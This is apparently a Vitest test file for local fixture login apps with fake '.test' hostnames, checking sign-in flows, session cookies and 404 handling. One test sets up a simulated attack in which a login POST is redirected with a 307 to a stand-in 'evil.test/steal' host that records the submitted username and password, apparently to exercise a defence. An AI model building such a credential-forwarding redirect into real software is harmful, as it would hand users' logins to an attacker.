import http from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { startFixtureApps, type FixtureApps } from '../fixtures/fixture-apps';

let apps: FixtureApps;

beforeAll(async () => {
  apps = await startFixtureApps({ port: 0 });
});
afterAll(() => apps.close());
beforeEach(() => apps.clear());

/** One request to 127.0.0.1 with the Host header of `<slug>.test` (what Chromium's resolver rule does). */
function send(
  slug: string,
  method: string,
  path: string,
  options: { form?: Record<string, string>; cookie?: string } = {},
): Promise<{ status: number; headers: http.IncomingHttpHeaders; body: string }> {
  const body = options.form ? new URLSearchParams(options.form).toString() : undefined;
  return new Promise((resolve, reject) => {
    const request = http.request(
      {
        host: '127.0.0.1',
        port: apps.port,
        method,
        path,
        headers: {
          Host: `${slug}.test:${apps.port}`,
          ...(body ? { 'Content-Type': 'application/x-www-form-urlencoded' } : {}),
          ...(options.cookie ? { Cookie: options.cookie } : {}),
        },
      },
      (response) => {
        let text = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (text += chunk));
        response.on('end', () => resolve({ status: response.statusCode!, headers: response.headers, body: text }));
      },
    );
    request.on('error', reject);
    request.end(body);
  });
}

const sessionCookie = (headers: http.IncomingHttpHeaders) => headers['set-cookie']?.[0]?.split(';')[0];

describe('fixture apps', () => {
  it('signs in to Reading Garden, records the POST, and shows /home only with the cookie', async () => {
    const form = { username: 'ada', password: 'pw-1' };
    const answer = await send('reading-garden', 'POST', '/login', { form });
    expect(answer.status).toBe(303);
    expect(answer.headers.location).toBe('/home');
    const cookie = sessionCookie(answer.headers);
    expect(cookie).toBe('fixture_user=ada');
    expect(apps.received).toEqual([
      {
        host: `reading-garden.test:${apps.port}`,
        method: 'POST',
        path: '/login',
        fields: form,
        at: expect.any(Number),
      },
    ]);
    expect((await send('reading-garden', 'GET', '/home', { cookie })).body).toContain('Signed in as ada');
    const anonymous = await send('reading-garden', 'GET', '/home');
    expect([anonymous.status, anonymous.headers.location]).toEqual([302, '/login']);
  });

  it('re-renders the login page with .login-error for a wrong sign-in, and accept() decides what is right', async () => {
    const empty = await send('reading-garden', 'POST', '/login', { form: { username: 'ada', password: '' } });
    expect(empty.body).toContain('class="login-error"');
    apps.accept('code-cove', { username: 'ada', password: 'right', extra: 'LAKESIDE-01' });
    try {
      const wrong = await send('code-cove', 'POST', '/login', {
        form: { school_code: 'LAKESIDE-01', username: 'ada', password: 'wrong' },
      });
      expect(wrong.body).toContain('Wrong username or password');
      const noCode = await send('code-cove', 'POST', '/login', { form: { username: 'ada', password: 'right' } });
      expect(noCode.body).toContain('login-error');
      const right = await send('code-cove', 'POST', '/login', {
        form: { school_code: 'LAKESIDE-01', username: 'ada', password: 'right' },
      });
      expect(right.headers.location).toBe('/home');
    } finally {
      apps.accept('code-cove', null);
    }
    await expect(apps.waitForReceived((r) => r.fields.password === 'nope', 100)).rejects.toThrow(/Received 4:/);
  });

  it('runs Story Steps username first, then password', async () => {
    const first = await send('story-steps', 'POST', '/login/username', { form: { username: 'bo' } });
    expect([first.status, first.headers.location]).toEqual([303, '/login/password']);
    const cookie = sessionCookie(first.headers)!;
    const step = await send('story-steps', 'GET', '/login/password', { cookie });
    expect(step.body).toContain('id="sign-in"');
    const second = await send('story-steps', 'POST', '/login/password', { form: { password: 'pw' }, cookie });
    expect([second.status, sessionCookie(second.headers)]).toEqual([303, 'fixture_user=bo']);
  });

  it('answers Typing Trail /session-evil with a 307 to evil.test/steal, and records what reaches /steal', async () => {
    const form = { user: 'ada', pass: 'secret', remember: '0' };
    const answer = await send('typing-trail', 'POST', '/session-evil', { form });
    expect([answer.status, answer.headers.location]).toEqual([307, `${apps.origin('evil')}/steal`]);
    await send('evil', 'POST', '/steal', { form });
    const stolen = await apps.waitForReceived((r) => r.host.startsWith('evil.test') && r.path === '/steal');
    expect(stolen.fields).toEqual(form);
  });

  it('serves the React and shadow-root apps, and 404s unknown hosts and paths', async () => {
    expect((await send('math-meadow', 'GET', '/vendor/react.js')).body).toContain('React');
    expect((await send('science-sprouts', 'GET', '/login')).body).toContain('<sprouts-login>');
    expect((await send('nowhere', 'GET', '/login')).status).toBe(404);
    expect((await send('reading-garden', 'GET', '/nope')).status).toBe(404);
  });
});
